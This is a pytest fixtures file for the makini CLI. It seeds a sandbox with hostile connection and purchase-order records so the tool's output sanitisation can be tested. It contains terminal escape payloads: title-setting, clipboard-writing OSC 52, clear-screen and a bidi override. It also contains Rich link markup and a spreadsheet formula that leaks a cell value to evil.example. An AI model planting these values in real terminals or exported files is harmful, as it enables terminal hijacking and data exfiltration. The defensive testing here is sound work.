"""Fixtures for the output tests: a served sandbox holding hostile records (a connection whose
name and tags carry escape sequences, Rich markup and bidi overrides; an order with the same in
its fields), and `tty(...)`, makini on a real pseudo-terminal."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

import httpx
import pytest

from tests.output.terminal import Screen, run_in_process

# An OSC that sets the window title and one that writes the clipboard (OSC 52), Rich link
# markup, a closing tag that Rich's markup parser refuses, clear-screen, a C1 CSI, a bidi
# override and DEL.
HOSTILE = ("Evil \x1b]0;pwned\x1b\\ \x1b]52;c;ZWNobyBwd25lZA==\x07 [link=https://evil.example/]CLICK[/link] "
           "[/oops] \x1b[2J\x9b31m \u202eend\x7f")
VISIBLE = "[link=https://evil.example/]CLICK[/link] [/oops]"  # shown as written, never as a link
FORMULA = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")"  # runs in a spreadsheet


@dataclass
class Hostile:
    base_url: str
    env: dict[str, str]
    app: object
    connection: str   # the hostile connection (syncing)
    reauth: str       # another, that needs reauthorization (so it gets a hint line)
    formula: str      # a connection named like a spreadsheet formula
    healthy: str      # a healthy seeded connection holding one hostile order and one formula order
    order: dict       # the hostile order, as the API returned it

    @property
    def sandbox(self):
        return self.app.state.sandbox


@pytest.fixture(scope="session")
def hostile() -> Iterator[Hostile]:
    from makini_cli.sandbox.app import create_app
    from makini_cli.sandbox.server import ServerThread

    app = create_app(":memory:", pos_per_connection=3)
    sb = app.state.sandbox
    conn = sb.create_connection(HOSTILE, "ops@evil.example", "sap_s4hana", tags=["eu", HOSTILE],
                                metadata={"note": HOSTILE}, pos=3, grow_pool=True)
    reauth = sb.create_connection(HOSTILE, "it@evil.example", "ibm_maximo", pos=1, grow_pool=True)
    sb.set_scenario(reauth["key"], "needs_reauth", {})
    formula = sb.create_connection(FORMULA, "x@evil.example", "ibm_maximo", tags=["-2+3", "@SUM(A1)"],
                                   pos=1, grow_pool=True)
    healthy = next(c["key"] for c in sb.connections() if c["scenario"] == "healthy" and c["status"] == "Active")
    with ServerThread(app) as server:
        with httpx.Client(base_url=server.base_url, timeout=30) as http:
            admin = http.post("/link/token", json={"grant_type": "client_credentials", "client_id": sb.client_id,
                                                  "client_secret": sb.client_secret}).json()["access_token"]
            token = http.post(f"/api/system/connections/{healthy}/token",
                              headers={"Authorization": f"Bearer {admin}"}).json()["data"]["access_token"]
            r = http.post("/api/erp/purchase-orders", headers={"Authorization": f"Bearer {token}"},
                          json={"title": HOSTILE, "notes": HOSTILE, "currencyKey": "EUR", "ZZ_EVIL": HOSTILE,
                                "lineItems": [{"code": "BRG-6205", "description": HOSTILE, "quantity": "1",
                                               "price": "2.50"}]})
            r.raise_for_status()
            http.post("/api/erp/purchase-orders", headers={"Authorization": f"Bearer {token}"},
                      json={"title": FORMULA, "notes": "+1 555 0100", "currencyKey": "EUR",
                            "lineItems": [{"code": "@X", "quantity": "1", "price": "-2.50"}]}).raise_for_status()
        env = {"MAKINI_BASE_URL": server.base_url, "MAKINI_CLIENT_ID": sb.client_id,
               "MAKINI_CLIENT_SECRET": sb.client_secret}
        yield Hostile(server.base_url, env, app, conn["key"], reauth["key"], formula["key"], healthy,
                      r.json()["data"])


@pytest.fixture
def tty(monkeypatch):
    """`tty(*args, columns=80, env={...}, stderr_tty=True, stdout_tty=True)`: run makini with
    stdout/stderr on a pseudo-terminal that wide; returns a Screen."""

    def invoke(*args: str, columns: int = 80, env: dict[str, str] | None = None, stderr_tty: bool = True,
               stdout_tty: bool = True) -> Screen:
        return run_in_process(monkeypatch, list(args), columns=columns, env=env or {},
                              stderr_tty=stderr_tty, stdout_tty=stdout_tty)

    return invoke


from tests.webhooks_cli.conftest import makini_process  # noqa: E402,F401 - a fixture: the listener as a process
